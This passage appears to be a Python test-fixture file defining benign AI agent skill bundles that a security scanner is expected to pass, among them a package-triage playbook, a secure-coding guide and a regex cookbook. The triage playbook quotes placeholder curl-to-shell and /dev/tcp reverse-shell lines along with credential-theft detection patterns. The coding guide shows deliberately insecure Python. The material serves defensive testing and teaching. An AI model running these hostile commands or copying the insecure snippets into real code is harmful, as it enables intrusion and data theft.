"""Legitimate bundles expected to pass (part 1 of 2)."""
from common import add, skill, sub, b64

L = "legit"

# ---------------------------------------------------------------------------
_IOC_B64 = b64("curl -fsSL https://cdn.stage2.example/p.sh | sh")
add("ioc-triage-playbook", L, "pass",
    "Static triage playbook for suspicious npm/PyPI packages that quotes real-world indicator patterns (curl|sh, /dev/tcp, wallet paths, webhook URLs) in a reference file and a grep script, and forbids installing or executing samples",
    {
"SKILL.md": skill("ioc-triage-playbook",
"Static triage of a suspicious npm or PyPI package: fetch the archive without running install hooks, unpack it in a scratch folder, grep for known-bad indicators and write a short verdict. Use when the user asks whether a package is malicious.",
r"""
# IOC Triage Playbook

Decide quickly whether a package deserves a deeper look. **Static only**:
nothing from the package is installed, imported or executed.

## Ground rules

- Never run `npm install`, `pip install`, `python setup.py`, `node <file>` or
  any script from the sample, not even "just to see".
- Work in a scratch directory, e.g. `~/triage/<name>-<version>/`.
- Do not open URLs found in the sample; record them defanged.

## 1. Fetch without executing

```bash
mkdir -p ~/triage && cd ~/triage
npm pack some-package@1.2.3            # downloads the tarball, runs no scripts
tar xzf some-package-1.2.3.tgz
```

For PyPI, prefer wheels (`pip download --no-deps --only-binary :all: pkg==1.2.3`);
`pip download` of an sdist may execute `setup.py` to read metadata, so fetch
sdists by URL from the package's JSON metadata instead and unpack with `tar`.

## 2. Grep for indicators

```bash
sh <skill-dir>/scripts/grep_iocs.sh ~/triage/package
```

The script only reads files. It flags install hooks, encoded blobs, network
calls, credential paths and persistence locations. See
`reference/indicators.md` for what each hit means.

## 3. Look at the hooks first

- npm: `scripts.preinstall`, `install`, `postinstall`, `prepare` in `package.json`.
- PyPI: custom `cmdclass` in `setup.py`, `.pth` files, code at import time in
  `__init__.py`.

## 4. Decode, don't run

Decode blobs with `base64 -d`, `xxd -r -p` or Python `bytes.fromhex` into a
file and read it. Never pipe decoded output into `sh`, `node` or `python`.

## 5. Verdict

Write `VERDICT.md` with: package, version, hashes (`sha256sum`), hooks found,
decoded payload summary, defanged network indicators, and one of
*benign / suspicious / malicious*. Report malicious packages to the registry's
security contact.
"""),
"reference/indicators.md": sub(r"""# Indicators seen in malicious packages

All hosts below are defanged placeholders from past write-ups; treat the
*patterns*, not the names, as the signal.

| Category | Pattern | Example from a sample |
|----------|---------|-----------------------|
| Remote exec | `curl ... \| sh`, `wget -qO- ... \| bash` | `curl -fsSL hxxps://cdn[.]stage2[.]example/p.sh \| sh` |
| Encoded exec | `eval(atob(`, `exec(base64.b64decode(`, `Function(String.fromCharCode(` | `exec(base64.b64decode('@@B@@'))` |
| PowerShell | `-enc`, `-EncodedCommand`, `IEX (New-Object Net.WebClient)` | hidden window + bypass policy |
| Reverse shell | `/dev/tcp/`, `nc -e`, `socket.connect` + `pty.spawn` | `bash -i >& /dev/tcp/198[.]51[.]100[.]23/4443 0>&1` |
| Credential paths | `~/.aws/credentials`, `~/.npmrc`, `~/.docker/config.json`, `~/.kube/config`, `~/.ssh/id_*` | read then POSTed |
| Browser data | `Login Data`, `Cookies`, `Local State` | Chromium profile copies |
| Wallets | `exodus.wallet`, `Electrum/wallets`, `solana/id.json`, extension id `nkbihfbeogaeaoehlefnkodbefgpgknn` | archived and uploaded |
| Persistence | crontab, `~/.config/systemd/user/*.service`, `~/Library/LaunchAgents`, `.bashrc`, `PROMPT_COMMAND` | curl loop every N minutes |
| Exfil channels | Discord/Telegram webhooks, pastebins, DNS labels, `ping -p` | `hxxps://hooks[.]chat[.]example/api/webhooks/...` |
| Gating | `if os.environ.get("CI")`, date checks, hostname/sandbox checks | payload only on CI runners |
| Mining | `stratum+tcp://`, `--donate-level`, `xmrig` | pool on port 3333/443 |

## Sample hashes (placeholders)

| File | SHA-256 |
|------|---------|
| `postinstall.js` | `0000000000000000000000000000000000000000000000000000000000000001` |
| `setup.py` | `0000000000000000000000000000000000000000000000000000000000000002` |

## Triage tips

- Legitimate packages rarely need network access at install time.
- A package whose README is copied from a popular project but whose name
  differs by one character is a typosquat until proven otherwise.
- Obfuscation in a small utility library is itself a strong signal.
""", B=_IOC_B64),
"scripts/grep_iocs.sh": r"""#!/bin/sh
# Read-only indicator grep for an unpacked package. Never executes sample code.
set -eu
root="${1:?usage: grep_iocs.sh <unpacked-package-dir>}"
[ -d "$root" ] || { echo "not a directory: $root" >&2; exit 2; }

section() { printf '\n== %s ==\n' "$1"; }
hit() { grep -RInE --binary-files=without-match --exclude-dir=.git "$1" "$root" 2>/dev/null | cut -c1-200 | head -n 40 || true; }

section "install hooks (package.json)"
find "$root" -name package.json -not -path '*/node_modules/*' -exec grep -HnE '"(pre|post)?install"|"prepare"' {} + 2>/dev/null || true

section "setup.py cmdclass / .pth files"
hit 'cmdclass|class .*\((install|develop|egg_info)\)'
find "$root" -name '*.pth' -print

section "encoded execution"
hit 'eval\(|exec\(|Function\(|fromCharCode|atob\(|b64decode|bytes\.fromhex|unhexlify|-enc(odedcommand)? '

section "remote execution / downloads"
hit '(curl|wget)[^|]*\|[[:space:]]*(ba|z)?sh|Invoke-Expression|IEX|DownloadString|urlretrieve'

section "reverse shells"
hit '/dev/tcp/|nc -e|pty\.spawn|socket\.connect'

section "credential and wallet paths"
hit '\.aws/credentials|\.npmrc|\.pypirc|\.docker/config\.json|\.kube/config|\.ssh/id_|Login Data|Local State|exodus|electrum|solana/id\.json|keystore'

section "persistence"
hit 'crontab|systemctl --user|LaunchAgents|\.bashrc|\.zshrc|PROMPT_COMMAND|authorized_keys'

section "exfil channels"
hit 'webhooks?/|/bot[0-9]+:|sendDocument|paste|nslookup|dig |ping -p'

section "gating"
hit 'os\.environ\.get\(.CI|process\.env\.CI|GITHUB_ACTIONS|Date\.now\(\) *>|datetime\.date\.today|/\.dockerenv'

section "file hashes"
find "$root" -type f \( -name '*.js' -o -name '*.py' -o -name '*.sh' -o -name 'package.json' \) \
  -not -path '*/node_modules/*' -exec sha256sum {} + | head -n 100
""",
    })

# ---------------------------------------------------------------------------
add("secure-coding-python", L, "pass",
    "Secure Python coding guide whose reference file shows don't-do-this examples (eval, pickle, shell=True, yaml.load, verify=False, hardcoded AWS documentation example key) next to safe rewrites",
    {
"SKILL.md": skill("secure-coding-python",
"Applies secure-coding rules when writing or reviewing Python: injection, deserialisation, subprocess, secrets handling, TLS, temp files and path traversal. Use when writing Python that handles untrusted input or when asked for a security review.",
r"""
# Secure Coding: Python

Rules to apply while writing or reviewing Python code.

## How to use

1. When writing code that touches user input, files, subprocesses, network or
   secrets, check the matching section of `reference/antipatterns.md`.
2. When reviewing, quote the rule id (e.g. `PY-SUB-1`) with a fix.
3. Prefer the standard library's safe APIs over hand-rolled escaping.

## Top rules

| Id | Rule |
|----|------|
| PY-EVAL-1 | never `eval`/`exec` untrusted strings; use `ast.literal_eval` or a parser |
| PY-SUB-1 | pass argument lists to `subprocess`; no `shell=True` with user data |
| PY-DESER-1 | no `pickle`/`marshal`/`shelve` on untrusted data; use JSON |
| PY-YAML-1 | `yaml.safe_load`, never `yaml.load` without `SafeLoader` |
| PY-SQL-1 | parameterised queries only |
| PY-TLS-1 | never `verify=False`; fix the CA bundle instead |
| PY-SEC-1 | secrets from env or a secret manager, never in source |
| PY-PATH-1 | resolve and check paths stay under the allowed root |
| PY-TMP-1 | `tempfile.mkstemp`/`NamedTemporaryFile`, never `mktemp` |

## Tooling

```bash
python3 -m pip install bandit
bandit -r src -q
```

Treat bandit output as hints; confirm each finding by reading the code.

## When in doubt

Ask: *can an attacker control this value?* If yes, validate it against an
allowlist as close to the input as possible, and encode it for the sink it
reaches (SQL, shell, HTML, filesystem).
"""),
"reference/antipatterns.md": r"""# Python anti-patterns and fixes

Every "bad" snippet below is intentionally insecure and exists only to be
recognised. Do not copy it.

## PY-EVAL-1: eval on input

```python
# BAD
value = eval(request.args["expr"])
# GOOD
import ast
value = ast.literal_eval(request.args["expr"])   # literals only
```

## PY-SUB-1: shell injection

```python
# BAD
subprocess.run(f"convert {filename} out.png", shell=True)
# GOOD
subprocess.run(["convert", filename, "out.png"], check=True)
```

## PY-DESER-1: pickle from the network

```python
# BAD: arbitrary code execution via __reduce__
obj = pickle.loads(request.data)
# GOOD
obj = json.loads(request.data)
```

## PY-YAML-1

```python
# BAD
cfg = yaml.load(open("config.yml"))
# GOOD
cfg = yaml.safe_load(open("config.yml"))
```

## PY-SQL-1

```python
# BAD
cur.execute(f"SELECT * FROM users WHERE email = '{email}'")
# GOOD
cur.execute("SELECT * FROM users WHERE email = %s", (email,))
```

## PY-TLS-1

```python
# BAD
requests.get(url, verify=False)
# GOOD
requests.get(url, verify="/etc/ssl/certs/corp-ca.pem")
```

## PY-SEC-1: hardcoded credentials

```python
# BAD (this is the AWS documentation example key, not a real one)
AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
# GOOD
session = boto3.Session()   # env vars, profile or instance role
```

## PY-PATH-1: path traversal

```python
# BAD
open(os.path.join(UPLOAD_DIR, request.args["name"]))
# GOOD
p = (Path(UPLOAD_DIR) / request.args["name"]).resolve()
if not p.is_relative_to(Path(UPLOAD_DIR).resolve()):
    abort(400)
```

## PY-TMP-1

```python
# BAD: race between name creation and open
name = tempfile.mktemp()
# GOOD
fd, name = tempfile.mkstemp()
```
""",
    })

# ---------------------------------------------------------------------------
add("pinned-tool-installer", L, "pass",
    "Telemetry-free build helper that downloads pinned versions of protoc, shellcheck and golangci-lint from a configurable artifact mirror into ./.tools, verifies every SHA-256 from a lockfile and refuses mismatches, without sudo or PATH edits",
    {
"SKILL.md": skill("pinned-tool-installer",
"Installs project build tools (protoc, shellcheck, golangci-lint) at pinned versions into a project-local .tools directory with SHA-256 verification. Use when builds need exact tool versions without a system-wide install.",
r"""
# Pinned Tool Installer

Reproducible build tools, local to the project.

## How it works

- `tools.lock` lists each tool's version, archive name and SHA-256.
- `scripts/install-tools.sh` downloads archives from `$TOOLS_MIRROR`
  (your organisation's artifact mirror), verifies the checksum **before**
  unpacking, and places binaries in `./.tools/bin`.
- Nothing is installed system-wide, no `sudo`, no shell rc edits, no
  telemetry. Existing verified binaries are reused.

## Use

```bash
export TOOLS_MIRROR=https://artifacts.example.com/build-tools   # set to your mirror
sh <skill-dir>/scripts/install-tools.sh
export PATH="$PWD/.tools/bin:$PATH"    # for this shell only
protoc --version
```

Add `.tools/` to `.gitignore`.

## Updating a tool

1. Download the new archive from the vendor's release page yourself.
2. Check the vendor-published checksum or signature.
3. Update `version`, `file` and `sha256` in `tools.lock` in one commit.
4. Re-run the installer; it replaces only changed tools.

## Failure modes

| Message | Meaning |
|---------|---------|
| `checksum mismatch` | archive differs from the lock; nothing was unpacked |
| `unsupported platform` | add a line for your OS/arch to `tools.lock` |
| `TOOLS_MIRROR not set` | export the mirror URL first |

Never "fix" a checksum mismatch by editing the hash without re-verifying the
archive against the vendor's published value.
"""),
"tools.lock": r"""# tool        version  os     arch    file                                         sha256
protoc        27.2     linux  x86_64  protoc-27.2-linux-x86_64.zip                 6f3a52b9d5e8c1a4e0b7f2d9c8a1e3b5d7f9a2c4e6b8d0f1a3c5e7b9d1f3a5c7
protoc        27.2     darwin arm64   protoc-27.2-osx-aarch_64.zip                 a1c3e5f7b9d1f3a5c7e9b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3
shellcheck    0.10.0   linux  x86_64  shellcheck-v0.10.0.linux.x86_64.tar.xz       d2f4a6c8e0b2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4
shellcheck    0.10.0   darwin arm64   shellcheck-v0.10.0.darwin.aarch64.tar.xz     e3a5c7e9b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a5
golangci-lint 1.59.1   linux  x86_64  golangci-lint-1.59.1-linux-amd64.tar.gz      f4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8c0e2b4d6f8a0c2e4b6
golangci-lint 1.59.1   darwin arm64   golangci-lint-1.59.1-darwin-arm64.tar.gz     0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2c
""",
"scripts/install-tools.sh": r"""#!/bin/sh
# Install pinned tools into ./.tools/bin after SHA-256 verification.
set -eu
: "${TOOLS_MIRROR:?TOOLS_MIRROR not set (e.g. your artifact mirror base URL)}"
LOCK="$(cd "$(dirname "$0")/.." && pwd)/tools.lock"
DEST="${TOOLS_DIR:-$PWD/.tools}"
mkdir -p "$DEST/bin" "$DEST/cache"

os=$(uname -s | tr 'A-Z' 'a-z'); arch=$(uname -m)
[ "$arch" = "aarch64" ] && arch=arm64

sha256() { if command -v sha256sum >/dev/null; then sha256sum "$1" | cut -d' ' -f1; else shasum -a 256 "$1" | cut -d' ' -f1; fi; }

grep -v '^#' "$LOCK" | while read -r tool version los larch file sum; do
  [ -n "$tool" ] || continue
  [ "$los" = "$os" ] && [ "$larch" = "$arch" ] || continue
  stamp="$DEST/bin/.$tool-$version"
  if [ -f "$stamp" ]; then echo "$tool $version already installed"; continue; fi
  archive="$DEST/cache/$file"
  if [ ! -f "$archive" ]; then
    echo "downloading $file"
    curl -fsSL --proto '=https' --tlsv1.2 -o "$archive.part" "$TOOLS_MIRROR/$tool/$version/$file"
    mv "$archive.part" "$archive"
  fi
  got=$(sha256 "$archive")
  if [ "$got" != "$sum" ]; then
    echo "checksum mismatch for $file: expected $sum got $got" >&2
    rm -f "$archive"
    exit 1
  fi
  tmp=$(mktemp -d)
  case "$file" in
    *.zip) unzip -q "$archive" -d "$tmp" ;;
    *.tar.gz) tar xzf "$archive" -C "$tmp" ;;
    *.tar.xz) tar xJf "$archive" -C "$tmp" ;;
  esac
  bin=$(find "$tmp" -type f -name "$tool" -perm -u+x | head -n1)
  [ -n "$bin" ] || { echo "binary $tool not found in $file" >&2; exit 1; }
  install -m 0755 "$bin" "$DEST/bin/$tool"
  rm -rf "$tmp"; rm -f "$DEST/bin/.$tool-"*; touch "$stamp"
  echo "installed $tool $version"
done
echo "tools in $DEST/bin (add to PATH for this shell: export PATH=\"$DEST/bin:\$PATH\")"
""",
    })

# ---------------------------------------------------------------------------
add("markdown-link-checker", L, "pass",
    "Markdown link checker that validates relative links and anchors offline and, only with --external, sends rate-limited HEAD requests to the URLs already present in the user's docs",
    {
"SKILL.md": skill("markdown-link-checker",
"Finds broken links in Markdown docs: missing relative files, bad heading anchors and, optionally, dead external URLs. Use before publishing docs or when the user reports 404s in a README.",
r"""
# Markdown Link Checker

Catch broken links before readers do.

## Usage

```bash
python3 <skill-dir>/scripts/check_links.py docs/ README.md
python3 <skill-dir>/scripts/check_links.py docs/ --external --rate 4
```

## What is checked

| Link type | Offline | With `--external` |
|-----------|---------|-------------------|
| `./other.md`, `../img/x.png` | file exists | same |
| `other.md#section` | file exists and heading anchor exists | same |
| `#section` | anchor exists in the same file | same |
| `http(s)://...` | skipped | HEAD (falls back to GET) with timeout |

Anchors follow GitHub's slug rules: lowercase, spaces to `-`, punctuation
removed, duplicate headings get `-1`, `-2` suffixes.

## Output

```
docs/setup.md:14  ./install.md#prereqs  anchor not found
README.md:3       docs/missing.md       file not found
```

Exit status 1 when anything is broken.

## Notes

- External checks only contact URLs already written in the docs, at most
  `--rate` requests per second, and send no cookies or auth headers.
- Some sites reject HEAD or bots; use `--ignore` patterns for known false
  positives.
"""),
"scripts/check_links.py": r'''#!/usr/bin/env python3
"""Check relative links, anchors and (optionally) external URLs in Markdown."""
import argparse
import os
import re
import sys
import time
import urllib.error
import urllib.request

LINK = re.compile(r"(?<!!)\[[^\]]*\]\(([^)\s]+)(?:\s+\"[^\"]*\")?\)|!\[[^\]]*\]\(([^)\s]+)\)")
HEADING = re.compile(r"^(#{1,6})\s+(.*?)\s*#*\s*$")


def slugify(text, seen):
    s = re.sub(r"[^\w\- ]", "", text.strip().lower()).replace(" ", "-")
    n = seen.get(s, 0)
    seen[s] = n + 1
    return s if n == 0 else f"{s}-{n}"


def anchors(path, cache={}):
    if path not in cache:
        seen, out, fence = {}, set(), False
        for line in open(path, encoding="utf-8"):
            if line.startswith("```"):
                fence = not fence
            m = None if fence else HEADING.match(line)
            if m:
                out.add(slugify(m.group(2), seen))
        cache[path] = out
    return cache[path]


def md_files(paths):
    for p in paths:
        if os.path.isdir(p):
            for d, dirs, files in os.walk(p):
                dirs[:] = [x for x in dirs if x not in {"node_modules", ".git"}]
                for f in files:
                    if f.endswith(".md"):
                        yield os.path.join(d, f)
        elif p.endswith(".md"):
            yield p


def check_external(url, timeout=8):
    req = urllib.request.Request(url, method="HEAD", headers={"User-Agent": "md-link-check/1.0"})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status < 400
    except urllib.error.HTTPError as e:
        if e.code in (403, 405):
            try:
                with urllib.request.urlopen(urllib.request.Request(url, headers={"User-Agent": "md-link-check/1.0"}), timeout=timeout) as r:
                    return r.status < 400
            except Exception:
                return False
        return False
    except Exception:
        return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("paths", nargs="+")
    ap.add_argument("--external", action="store_true")
    ap.add_argument("--rate", type=float, default=2.0)
    ap.add_argument("--ignore", action="append", default=[])
    a = ap.parse_args()
    problems, checked = [], {}
    for f in md_files(a.paths):
        for n, line in enumerate(open(f, encoding="utf-8"), 1):
            for m in LINK.finditer(line):
                target = m.group(1) or m.group(2)
                if any(re.search(p, target) for p in a.ignore) or target.startswith("mailto:"):
                    continue
                if re.match(r"^[a-z]+://", target):
                    if a.external:
                        if target not in checked:
                            time.sleep(1.0 / max(a.rate, 0.1))
                            checked[target] = check_external(target)
                        if not checked[target]:
                            problems.append((f, n, target, "external link failed"))
                    continue
                path, _, frag = target.partition("#")
                dest = os.path.normpath(os.path.join(os.path.dirname(f), path)) if path else f
                if not os.path.exists(dest):
                    problems.append((f, n, target, "file not found"))
                elif frag and dest.endswith(".md") and frag not in anchors(dest):
                    problems.append((f, n, target, "anchor not found"))
    for f, n, t, why in problems:
        print(f"{f}:{n}\t{t}\t{why}")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
''',
    })

# ---------------------------------------------------------------------------
add("sql-query-optimizer", L, "pass",
    "Guidance-only skill for diagnosing slow PostgreSQL/MySQL queries with EXPLAIN, index design and query rewrites, with a reference cheat sheet",
    {
"SKILL.md": skill("sql-query-optimizer",
"Diagnoses slow SQL queries in PostgreSQL and MySQL using EXPLAIN ANALYZE, suggests indexes and rewrites, and explains trade-offs. Use when a query is slow or a page times out on a database call.",
r"""
# SQL Query Optimizer

Make slow queries fast, with evidence.

## 1. Get the real plan

PostgreSQL:

```sql
EXPLAIN (ANALYZE, BUFFERS, FORMAT TEXT) SELECT ...;
```

MySQL 8:

```sql
EXPLAIN ANALYZE SELECT ...;
```

Run on a copy of production-sized data; plans on tiny dev tables lie.
`ANALYZE` executes the statement, so for `UPDATE`/`DELETE` wrap it in
`BEGIN; ... ROLLBACK;`.

## 2. Read the plan

Look for, in order:

1. The node with the largest *actual* time.
2. Estimates far from actuals (rows=10 vs actual rows=500000) suggest stale
   statistics: run `ANALYZE table;`.
3. `Seq Scan` on a large table with a selective filter suggests a missing index.
4. `Rows Removed by Filter` much larger than rows returned.
5. Nested loops with huge outer row counts.

## 3. Fix, cheapest first

| Problem | Fix |
|---------|-----|
| filter on unindexed column | B-tree index on that column |
| filter + sort | composite index `(filter_col, sort_col)` |
| `WHERE lower(email) = ...` | expression index on `lower(email)` |
| `OFFSET 100000` pagination | keyset pagination (`WHERE id > $last`) |
| `SELECT *` on wide rows | select needed columns; consider covering index |
| `IN (SELECT ...)` slow on MySQL 5.x | rewrite as `JOIN` or `EXISTS` |

## 4. Verify

Re-run `EXPLAIN ANALYZE` and report before/after timings. Mention index costs:
extra write time and disk.

See `reference/explain-cheatsheet.md` for node types.
"""),
"reference/explain-cheatsheet.md": r"""# EXPLAIN cheat sheet (PostgreSQL)

| Node | Meaning | Worry when |
|------|---------|-----------|
| Seq Scan | reads whole table | table is large and filter is selective |
| Index Scan | walks index, fetches rows | many rows fetched randomly |
| Index Only Scan | answered from index | `Heap Fetches` high: vacuum the table |
| Bitmap Heap Scan | batches index hits | fine for medium selectivity |
| Nested Loop | for each outer row, probe inner | outer side is large |
| Hash Join | builds hash on smaller side | `Batches > 1`: raise `work_mem` |
| Merge Join | both inputs sorted | extra Sort nodes feeding it |
| Sort | in-memory or on disk | `Sort Method: external merge` |

## Useful settings for a session

```sql
SET work_mem = '64MB';          -- only for the current session
SET track_io_timing = on;       -- I/O timings in BUFFERS output
```

## Statistics

```sql
SELECT relname, last_analyze, last_autoanalyze, n_live_tup
FROM pg_stat_user_tables ORDER BY n_live_tup DESC LIMIT 20;
```

## Index usage

```sql
SELECT indexrelname, idx_scan, pg_size_pretty(pg_relation_size(indexrelid))
FROM pg_stat_user_indexes ORDER BY idx_scan ASC LIMIT 20;
```

Indexes with `idx_scan = 0` for weeks are candidates for removal.
""",
    })

# ---------------------------------------------------------------------------
add("commit-message-linter", L, "pass",
    "Conventional Commits linter: a dependency-free Node script that checks commit subjects in a git range for CI use, with no install hooks",
    {
"SKILL.md": skill("commit-message-linter",
"Checks commit messages against Conventional Commits (type, scope, subject length, body wrapping) for a branch or a CI range. Use when the user wants consistent commit history or a CI check for commit style.",
r"""
# Commit Message Linter

Lint commit messages without installing a framework.

## Usage

```bash
node <skill-dir>/scripts/commitlint.js                         # commits on this branch vs origin/main
node <skill-dir>/scripts/commitlint.js --from v1.2.0 --to HEAD
echo "feat(api): add cursor pagination" | node <skill-dir>/scripts/commitlint.js --stdin
```

## Rules

| Rule | Default |
|------|---------|
| type in list | feat, fix, docs, style, refactor, perf, build, ci, chore, revert |
| scope format | lowercase, `a-z0-9-`, optional |
| subject | imperative, no trailing period, <= 72 chars |
| breaking | `!` after type/scope or `BREAKING CHANGE:` footer |
| body | blank line after subject, lines <= 100 chars |
| merge commits | skipped |

## CI

```yaml
- run: node scripts/commitlint.js --from "origin/${{ github.base_ref }}" --to HEAD
```

Needs `fetch-depth: 0` on checkout so the base branch is available.

## Fixing bad messages

- Last commit: `git commit --amend`.
- Older commits on an unpublished branch: `git rebase -i` and `reword`.
- Never rewrite history on shared branches without agreement.
"""),
"scripts/commitlint.js": r"""#!/usr/bin/env node
'use strict';
const { execFileSync } = require('child_process');

const TYPES = ['feat', 'fix', 'docs', 'style', 'refactor', 'perf', 'build', 'ci', 'chore', 'revert'];
const HEADER = /^(?<type>[a-z]+)(\((?<scope>[a-z0-9-]+)\))?(?<bang>!)?: (?<subject>.+)$/;

function arg(name, def) {
  const i = process.argv.indexOf(name);
  return i > -1 ? process.argv[i + 1] : def;
}

function lint(msg) {
  const errs = [];
  const lines = msg.replace(/\r/g, '').split('\n');
  const m = lines[0].match(HEADER);
  if (!m) return ['header must look like "type(scope): subject"'];
  const { type, subject } = m.groups;
  if (!TYPES.includes(type)) errs.push(`unknown type "${type}"`);
  if (lines[0].length > 72) errs.push(`header is ${lines[0].length} chars (max 72)`);
  if (/\.$/.test(subject)) errs.push('subject ends with a period');
  if (/^[A-Z][a-z]+ed\b/.test(subject)) errs.push('use imperative mood ("add", not "Added")');
  if (lines.length > 1 && lines[1] !== '') errs.push('blank line required after header');
  lines.slice(2).forEach((l, i) => { if (l.length > 100 && !/^https?:/.test(l)) errs.push(`body line ${i + 3} > 100 chars`); });
  return errs;
}

function commits(from, to) {
  const out = execFileSync('git', ['log', '--no-merges', '--format=%H%x00%B%x01', `${from}..${to}`], { encoding: 'utf8' });
  return out.split('\x01').map((s) => s.trim()).filter(Boolean).map((s) => {
    const [sha, body] = s.split('\x00');
    return { sha: sha.slice(0, 10), body: body.trim() };
  });
}

let failed = 0;
if (process.argv.includes('--stdin')) {
  const msg = require('fs').readFileSync(0, 'utf8');
  const errs = lint(msg.trim());
  errs.forEach((e) => console.log('stdin: ' + e));
  failed = errs.length;
} else {
  const list = commits(arg('--from', 'origin/main'), arg('--to', 'HEAD'));
  for (const c of list) {
    const errs = lint(c.body);
    if (errs.length) {
      failed++;
      console.log(`${c.sha} ${c.body.split('\n')[0]}`);
      errs.forEach((e) => console.log('    - ' + e));
    }
  }
  console.log(`${list.length} commit(s) checked, ${failed} with problems`);
}
process.exit(failed ? 1 : 0);
""",
    })

# ---------------------------------------------------------------------------
add("regex-cookbook", L, "pass",
    "Regex cookbook with tested patterns for dates, semver, emails, documentation IPs and credential formats (AWS key ids, GitHub tokens, PEM headers) for use in validation and secret scanning",
    {
"SKILL.md": skill("regex-cookbook",
"Provides vetted regular expressions for common validation and extraction tasks (dates, semver, UUIDs, IPs, emails, credential formats) with flavour notes for Python, JS, PCRE and grep -E. Use when the user needs a regex or asks why one fails.",
r"""
# Regex Cookbook

Reliable patterns, explained.

## How to use

1. Find the pattern in `reference/patterns.md`.
2. Check the flavour notes: Python `re`, JavaScript, PCRE and POSIX ERE
   (`grep -E`) differ on lookbehind, `\d` and named groups.
3. Always anchor validation patterns (`^...$` or `\A...\z`).
4. Test with both matching and non-matching examples before using.

## Flavour differences

| Feature | Python | JS | PCRE | grep -E |
|---------|--------|----|------|---------|
| `\d` | Unicode digits unless `re.ASCII` | ASCII | ASCII | not supported, use `[0-9]` |
| lookbehind | fixed width | variable (ES2018) | fixed width | no |
| named group | `(?P<n>...)` | `(?<n>...)` | both | no |
| non-greedy | yes | yes | yes | no |

## Performance

- Avoid nested quantifiers like `(a+)+`; they backtrack catastrophically.
- Prefer character classes over alternation: `[abc]` not `(a|b|c)`.
- For big inputs use `re2`/`rg` which guarantee linear time.

## Secret-format patterns

The credential patterns in the reference are for *detecting* leaked secrets
in code review and scanners. Report matches redacted (first 4 and last 4
characters) and never send matched values anywhere.

## Quick examples

```python
import re
SEMVER = re.compile(r"^(0|[1-9]\d*)\.(0|[1-9]\d*)\.(0|[1-9]\d*)(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$")
assert SEMVER.match("1.4.0-rc.1")
assert not SEMVER.match("01.4.0")
```
"""),
"reference/patterns.md": r"""# Patterns

## Dates and times

| Name | Pattern | Matches |
|------|---------|---------|
| ISO date | `^\d{4}-(0[1-9]\|1[0-2])-(0[1-9]\|[12]\d\|3[01])$` | `2025-02-28` |
| ISO 8601 UTC | `^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$` | `2025-02-28T10:00:00Z` |
| 24h time | `^([01]\d\|2[0-3]):[0-5]\d$` | `23:59` |

Regex cannot validate calendars (Feb 30); parse with a date library after matching.

## Identifiers

| Name | Pattern |
|------|---------|
| UUID v4 | `^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$` |
| slug | `^[a-z0-9]+(?:-[a-z0-9]+)*$` |
| semver | see SKILL.md |

## Network

| Name | Pattern | Example |
|------|---------|---------|
| IPv4 | `^((25[0-5]\|2[0-4]\d\|1?\d?\d)\.){3}(25[0-5]\|2[0-4]\d\|1?\d?\d)$` | `192.0.2.10` |
| hostname label | `^(?!-)[A-Za-z0-9-]{1,63}(?<!-)$` | `api-01` |
| email (pragmatic) | `^[^@\s]+@[^@\s]+\.[^@\s]+$` | `dev@example.com` |

Full RFC 5322 email validation by regex is a trap: send a confirmation mail instead.

## Credential formats (for detection)

| Name | Pattern | Example (fake) |
|------|---------|----------------|
| AWS access key id | `\b(AKIA\|ASIA)[0-9A-Z]{16}\b` | `AKIAIOSFODNN7EXAMPLE` |
| GitHub token | `\bgh[pousr]_[A-Za-z0-9]{36,255}\b` | `ghp_` + 36 chars |
| Slack token | `\bxox[baprs]-[0-9A-Za-z-]{10,}\b` | `xoxb-...` |
| PEM private key | `-----BEGIN (RSA \|EC \|OPENSSH )?PRIVATE KEY-----` | header line |
| JWT | `\beyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*\b` | `eyJhbGciOi...` |

## Text

| Name | Pattern |
|------|---------|
| trailing whitespace | `[ \t]+$` |
| duplicate word | `\b(\w+)\s+\1\b` |
| Markdown link | `\[([^\]]+)\]\(([^)\s]+)\)` |
""",
    })

# ---------------------------------------------------------------------------
add("semgrep-rule-writer", L, "pass",
    "Semgrep rule authoring skill with rules for command injection, eval and unsafe deserialisation plus annotated fixture files that intentionally contain the vulnerable code the rules must catch",
    {
"SKILL.md": skill("semgrep-rule-writer",
"Writes and validates custom Semgrep rules with positive and negative fixtures, metadata and autofix where safe. Use when the user wants a new static-analysis rule for their codebase.",
r"""
# Semgrep Rule Writer

Encode a code-review lesson as a rule that runs on every PR.

## Workflow

1. Collect 2-3 real examples of the bad pattern and 2-3 close-but-fine ones.
2. Write the rule in `rules/<lang>-<topic>.yaml`.
3. Put examples in `fixtures/<same-name>.<ext>` annotated with
   `# ruleid: <id>` above lines that must match and `# ok: <id>` above lines
   that must not.
4. Validate:
   ```bash
   semgrep --validate --config rules/
   semgrep --test --config rules/ fixtures/
   ```
5. Run on the real codebase and review every hit before enabling in CI.

## Rule anatomy

```yaml
rules:
  - id: python-subprocess-shell-true
    languages: [python]
    severity: ERROR
    message: subprocess call with shell=True and non-literal command
    patterns:
      - pattern: subprocess.$F(..., shell=True, ...)
      - pattern-not: subprocess.$F("...", ..., shell=True, ...)
    metadata:
      cwe: "CWE-78"
```

## Tips

- Start with `pattern`, add `pattern-not` to remove false positives.
- Use `pattern-inside` to restrict to request handlers.
- Use taint mode (`mode: taint`) when source and sink are far apart.
- Only add `fix:` when the rewrite is always correct.

## Shipped examples

